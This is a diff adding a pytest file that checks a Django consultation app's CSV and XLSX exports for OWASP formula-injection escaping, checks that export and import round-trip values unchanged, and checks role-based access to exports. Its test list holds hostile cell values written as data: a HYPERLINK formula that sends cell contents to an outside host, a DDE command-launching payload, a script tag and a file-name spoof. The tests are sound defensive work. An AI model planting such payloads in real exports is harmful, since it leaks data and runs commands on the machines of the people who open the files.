@@ -1,0 +1,111 @@
+"""Exports: OWASP formula escaping, and export then import gives the same values."""
+
+import csv
+import io
+
+import pytest
+import tablib
+from django.test import Client
+from django.urls import reverse
+from openpyxl import load_workbook
+
+from consultations.models import Answer
+from consultations.models import Survey
+from consultations.resources import AnswerResource
+from consultations.resources import answers_for_export
+from consultations.resources import escape_formula
+from sendportal.accounts.models import User
+from tests.consultations.conftest import questions
+from tests.consultations.factories import AnswerFactory
+from tests.consultations.factories import ResponseFactory
+
+pytestmark = pytest.mark.django_db
+
+HOSTILE = [
+    '=HYPERLINK("http://x?"&A1)',
+    "==1+1",
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1)",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    'a";=1+1',
+    "'already quoted",
+    "<script>alert(1)</script> {{ 7*7 }}",
+    "\u202egnp.exe",
+    "plain words",
+]
+TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n")
+
+
+def hostile_answers(survey: Survey) -> list[Answer]:
+    free = questions(survey)[2]
+    response = ResponseFactory.create(survey=survey)
+    return [
+        AnswerFactory.create(response=response, question=free, text_value=text)
+        for text in HOSTILE
+    ]
+
+
+def export_url(survey: Survey, file_format: str) -> str:
+    consultation = survey.consultation
+    return reverse(
+        "consultations_staff:export",
+        args=[consultation.area.slug, consultation.pk, file_format],
+    )
+
+
+@pytest.mark.parametrize("value", HOSTILE)
+def test_escaped_values_never_start_with_a_formula_trigger(value: str) -> None:
+    assert not escape_formula(value).startswith(TRIGGERS)
+
+
+def test_csv_export_escapes_every_cell(
+    client: Client, officer: User, survey: Survey
+) -> None:
+    hostile_answers(survey)
+    client.force_login(officer)
+    response = client.get(export_url(survey, "csv"))
+    streamed = response.streaming_content  # type: ignore[attr-defined]  # streaming
+    body = b"".join(streamed).decode("utf-8-sig")
+    rows = list(csv.reader(io.StringIO(body, newline="")))
+    assert rows[0][0] == "id"
+    cells = [cell for row in rows[1:] for cell in row]
+    assert not [cell for cell in cells if cell.startswith(TRIGGERS)]
+    assert "'==1+1" in cells
+    assert response["Cache-Control"] == "no-store"
+
+
+def test_xlsx_export_escapes_every_cell(
+    client: Client, officer: User, survey: Survey
+) -> None:
+    hostile_answers(survey)
+    client.force_login(officer)
+    response = client.get(export_url(survey, "xlsx"))
+    sheet = load_workbook(io.BytesIO(response.content)).active
+    cells = [
+        cell.value
+        for row in sheet.iter_rows(min_row=2)
+        for cell in row
+        if isinstance(cell.value, str)
+    ]
+    assert cells
+    assert not [cell for cell in cells if cell.startswith(TRIGGERS)]
+
+
+def test_export_then_import_gives_back_the_original_values(survey: Survey) -> None:
+    answers = hostile_answers(survey)
+    originals = {a.pk: a.text_value for a in answers}
+    exported = AnswerResource().export(answers_for_export(survey.consultation.pk))
+    csv_text = exported.export("csv")
+    Answer.objects.all().delete()
+    dataset = tablib.Dataset().load(csv_text, format="csv")
+    result = AnswerResource().import_data(dataset, raise_errors=True)
+    assert not result.has_errors()
+    assert dict(Answer.objects.values_list("pk", "text_value")) == originals
+
+
+def test_a_cabinet_member_cannot_export(client: Client, users_by_role, survey) -> None:
+    client.force_login(users_by_role["cabinet"])
+    assert client.get(export_url(survey, "csv")).status_code == 403
